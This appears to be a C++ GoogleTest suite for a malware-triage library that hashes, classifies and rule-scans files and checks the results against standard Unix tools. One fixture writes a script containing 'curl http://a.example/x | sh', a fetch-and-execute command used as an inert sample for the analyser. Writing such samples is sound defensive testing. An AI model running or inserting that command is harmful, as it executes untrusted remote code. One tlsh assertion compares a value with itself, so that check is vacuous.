// The worker and its parent on whole files, compared with file(1), md5sum, ssdeep, tlsh and readelf.
#include "triage/triage.h"

#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <boost/json/object.hpp>
#include <boost/json/serialize.hpp>
#include <random>

#include "base/unique_fd.h"
#include "triage/testing.h"

namespace shikake::triage {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;

std::string random_bytes(size_t size, unsigned seed) {
  std::mt19937 generator(seed);
  std::string out(size, '\0');
  for (char& c : out) c = static_cast<char>(generator());
  return out;
}

TEST(TriageFile, GivesTheFactsOfAProgram) {
  auto facts = triage_file("/bin/true", {});
  ASSERT_TRUE(facts) << facts.error().message();
  EXPECT_EQ(facts->kind, FileKind::elf);
  EXPECT_EQ(facts->name, "true");
  EXPECT_TRUE(facts->complete) << testing::PrintToString(facts->limits_hit);
  ASSERT_TRUE(facts->elf);
  EXPECT_EQ(facts->elf->bits, 64);
  EXPECT_TRUE(facts->elf->is_pie);
  EXPECT_TRUE(facts->elf->stripped);
  EXPECT_FALSE(facts->elf->is_static);
  EXPECT_THAT(facts->elf->needed, Contains("libc.so.6"));
  EXPECT_THAT(facts->elf->imports, Contains("__libc_start_main"));
  EXPECT_THAT(facts->elf->malformed, IsEmpty());
  EXPECT_GT(facts->strings.count, 100u);
  EXPECT_THAT(boost::json::serialize(to_json(*facts)), HasSubstr("\"machine\":\""));
}

struct ErrorRow {
  const char* name;
  std::function<std::filesystem::path(const TemporaryFolder&)> make;
  ErrorCode code;
  const char* says;
};

TEST(TriageFile, SaysWhatIsWrongWithAPath) {
  const ErrorRow rows[] = {
      {"missing", [](const TemporaryFolder& folder) { return folder.path() / "missing"; },
       ErrorCode::not_found, "missing"},
      {"folder", [](const TemporaryFolder& folder) { return folder.path(); }, ErrorCode::invalid_usage,
       "folder"},
      {"pipe without a writer",
       [](const TemporaryFolder& folder) {
         EXPECT_EQ(::mkfifo((folder.path() / "pipe").c_str(), 0600), 0);
         return folder.path() / "pipe";
       },
       ErrorCode::invalid_usage, "no ordinary file"},
      {"device", [](const TemporaryFolder&) { return std::filesystem::path("/dev/zero"); },
       ErrorCode::invalid_usage, "no ordinary file"},
      {"larger than is taken",
       [](const TemporaryFolder& folder) {
         auto path = folder.write("huge", "");
         EXPECT_EQ(::truncate(path.c_str(), static_cast<off_t>(max_file_bytes + 1)), 0);
         return path;
       },
       ErrorCode::limit, "16 GiB"},
  };
  for (const ErrorRow& row : rows) {
    SCOPED_TRACE(row.name);
    TemporaryFolder folder;
    auto facts = triage_file(row.make(folder), {});
    ASSERT_FALSE(facts);
    EXPECT_EQ(facts.error().code, row.code);
    EXPECT_THAT(facts.error().message(), HasSubstr(row.says));
  }
}

TEST(TriageFile, SaysThatItMayNotRead) {
  TemporaryFolder folder;
  auto path = folder.write("secret", "x");
  ASSERT_EQ(::chmod(path.c_str(), 0), 0);
  if (::access(path.c_str(), R_OK) == 0) {
    // root reads everything: ask as nobody, in a child.
    ASSERT_EQ(::chmod(folder.path().c_str(), 0755), 0);
    const pid_t child = ::fork();
    if (child == 0) {
      if (::setuid(65534) != 0) ::_exit(3);
      auto facts = triage_file(path, {});
      ::_exit(!facts && facts.error().code == ErrorCode::io && facts.error().system_errno == EACCES ? 0 : 1);
    }
    int status = 0;
    ASSERT_EQ(::waitpid(child, &status, 0), child);
    EXPECT_EQ(status, 0);
    return;
  }
  auto facts = triage_file(path, {});
  ASSERT_FALSE(facts);
  EXPECT_EQ(facts.error().system_errno, EACCES);
}

TEST(TriageFile, TakesAnEmptyFile) {
  TemporaryFolder folder;
  auto facts = triage_file(folder.write("empty", ""), {});
  ASSERT_TRUE(facts) << facts.error().message();
  EXPECT_EQ(facts->kind, FileKind::empty);
  EXPECT_EQ(facts->size, 0u);
  EXPECT_EQ(facts->hashes.md5, "d41d8cd98f00b204e9800998ecf8427e");
  EXPECT_EQ(facts->hashes.tlsh, "");
  EXPECT_TRUE(facts->complete);
}

TEST(TriageFile, HashesTwoGibibytesAndExaminesTheirBeginning) {
  TemporaryFolder folder;
  auto path = folder.write("large", "#!/bin/sh\necho http://large.example/x\n");
  constexpr off_t size = off_t{2} << 30;
  ASSERT_EQ(::truncate(path.c_str(), size), 0);
  auto facts = triage_file(path, {});
  ASSERT_TRUE(facts) << facts.error().message();
  EXPECT_EQ(facts->size, static_cast<uint64_t>(size));
  EXPECT_EQ(facts->kind, FileKind::script);
  EXPECT_THAT(facts->strings.urls, Contains("http://large.example/x"));
  EXPECT_FALSE(facts->complete);
  EXPECT_THAT(facts->limits_hit, Contains(HasSubstr("128 MiB")));
  EXPECT_EQ(facts->hashes.ssdeep, "");
  // sha256sum of the same 38 bytes and zeros up to 2 GiB.
  EXPECT_EQ(facts->hashes.sha256, "a3ebd3f10f4a4e5e2ad872c9b983ad653cf06f08470563a664b09f21e5a68fd8");
}

TEST(TriageFile, KeepsWhatAWorkerSaidBeforeItsTimeWasOver) {
  TemporaryFolder folder;
  auto path = folder.write("large", "");
  ASSERT_EQ(::truncate(path.c_str(), off_t{12} << 30), 0);
  Options options;
  options.patience = std::chrono::seconds(0);
  auto facts = triage_file(path, options);
  ASSERT_FALSE(facts);  // nothing was said yet
  EXPECT_EQ(facts.error().code, ErrorCode::timeout);
}

TEST(TriageFile, ReadsAnOpenFileFromItsStartAndLeavesItsOffset) {
  TemporaryFolder folder;
  base::UniqueFd fd(::open(folder.write("text", "#!/usr/bin/perl\nprint 1;\n").c_str(), O_RDONLY));
  ASSERT_EQ(::lseek(fd.get(), 5, SEEK_SET), 5);
  auto facts = triage_fd(fd.get(), {});
  ASSERT_TRUE(facts);
  ASSERT_TRUE(facts->script);
  EXPECT_EQ(facts->script->language, "perl");
  EXPECT_EQ(::lseek(fd.get(), 0, SEEK_CUR), 5);
}

TEST(TriageFile, ReadsRulesOfFoldersAndNamesThoseThatAreWrong) {
  TemporaryFolder folder;
  folder.write("a.yar",
               "rule greets : polite { meta: description = \"says hello\" technique = \"T0000\" strings: "
               "$a = \"hello\" condition: $a }");
  folder.write("b.yara", "rule broken {\n condition: no_such_word\n}");
  folder.write("c.txt", "not a rule");
  // This module opens a database when it is first used.
  folder.write("d.yar", "import \"magic\" rule typed { condition: magic.type() contains \"text\" }");
  Options options;
  options.rule_folders = {folder.path()};
  auto facts = triage_file(folder.write("greeting", "xx hello there"), options);
  ASSERT_TRUE(facts) << facts.error().message();
  ASSERT_EQ(facts->rules.size(), 2u);
  EXPECT_EQ(facts->rules[1].rule, "typed");
  EXPECT_EQ(facts->rules[0].rule, "greets");
  EXPECT_EQ(facts->rules[0].source, "a.yar");
  EXPECT_THAT(facts->rules[0].tags, Contains("polite"));
  EXPECT_EQ(facts->rules[0].description, "says hello");
  EXPECT_THAT(facts->rules[0].strings, Contains("$a@0x3"));
  ASSERT_EQ(facts->rule_errors.size(), 1u);
  EXPECT_THAT(facts->rule_errors[0], HasSubstr("b.yara: line 2"));

  options.rule_folders = {folder.path() / "absent"};
  auto refused = triage_file("/bin/true", options);
  ASSERT_FALSE(refused);
  EXPECT_THAT(refused.error().message(), HasSubstr("absent"));
}

struct HashRow {
  const char* name;
  std::string bytes;
};

TEST(TriageOracle, HashesAsTheirOwnProgramsDo) {
  for (const char* program : {"md5sum", "sha1sum", "ssdeep", "tlsh"}) SHIKAKE_NEED_PROGRAM(program);
  std::string text;
  for (int i = 0; i < 4000; ++i) text += "line " + std::to_string(i * i) + " of a text\n";
  const HashRow rows[] = {{"random", random_bytes(200'000, 1)},
                          {"in several reads", random_bytes(2'500'000, 2)},
                          {"text", text},
                          {"program", read_all("/bin/true")},
                          {"small", "0123456789"},
                          {"zeros", std::string(100'000, '\0')}};
  for (const HashRow& row : rows) {
    SCOPED_TRACE(row.name);
    TemporaryFolder folder;
    auto path = folder.write("sample", row.bytes);
    auto facts = triage_file(path, {});
    ASSERT_TRUE(facts);
    EXPECT_EQ(facts->hashes.md5 + "  -\n", output_of("md5sum < " + path.string()));
    EXPECT_EQ(facts->hashes.sha1 + "  -\n", output_of("sha1sum < " + path.string()));
    EXPECT_THAT(output_of("ssdeep -s " + path.string()), HasSubstr("\n" + facts->hashes.ssdeep + ",\""));
    std::string tlsh = output_of("tlsh -f " + path.string() + " 2>/dev/null");
    if (facts->hashes.tlsh.empty()) {
      EXPECT_EQ(tlsh.find_first_of("0123456789ABCDEF"), tlsh.find_first_of("0123456789ABCDEF"));
    } else {
      EXPECT_THAT(tlsh, HasSubstr(facts->hashes.tlsh.substr(2)));
    }
  }
}

TEST(TriageOracle, NamesTypesAsFileDoes) {
  SHIKAKE_NEED_PROGRAM("file");
  const HashRow rows[] = {
      {"bzip2", "BZh91AY&SY"},
      {"pdf", "%PDF-1.4\n%stuff\n"},
      {"shell", "#!/bin/sh\necho\n"},
      {"python", "#!/usr/bin/env python3\nimport os\n"},
      {"png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0", 33)},
      {"text", "some words only\n"},
      {"dos", std::string("MZ\x90\0\3\0\0\0", 8) + std::string(200, '\0')},
      {"random", random_bytes(5000, 7)}};
  for (const HashRow& row : rows) {
    SCOPED_TRACE(row.name);
    TemporaryFolder folder;
    auto path = folder.write("sample", row.bytes);
    auto facts = triage_file(path, {});
    ASSERT_TRUE(facts);
    EXPECT_EQ(facts->mime + "\n", output_of("file -b --mime-type " + path.string()));
    EXPECT_EQ(facts->description + "\n", output_of("file -b " + path.string()));
  }
}

TEST(TriageRecord, IsAsItsSchemaSays) {
  TemporaryFolder folder;
  folder.write("member", "\xFF not UTF-8\n");
  output_of("cd " + folder.path().string() + " && tar czf archive.tgz member");
  std::string command = std::string(SHIKAKE_PYTHON) + " " + SHIKAKE_SOURCE_DIR +
                        "/tests/schemas/validate.py " + SHIKAKE_SOURCE_DIR + "/docs/schemas";
  std::vector<std::filesystem::path> samples = {
      "/bin/ls", folder.path() / "archive.tgz",
      folder.write("script.sh", "#!/bin/sh\ncurl http://a.example/x | sh\n"), folder.write("empty", ""),
      folder.write("cut", read_all("/bin/ls").substr(0, 100))};
  for (size_t i = 0; i < samples.size(); ++i) {
    auto facts = triage_file(samples[i], {});
    ASSERT_TRUE(facts) << facts.error().message();
    auto file = folder.write("facts" + std::to_string(i), boost::json::serialize(to_json(*facts)));
    command += " triage=" + file.string();
  }
  const std::string complaints = output_of(command + "; echo status $?");
  if (complaints.find("status 77") != std::string::npos)
    GTEST_SKIP() << "python3-jsonschema is not installed";
  EXPECT_EQ(complaints, "status 0\n");
}

}  // namespace
}  // namespace shikake::triage
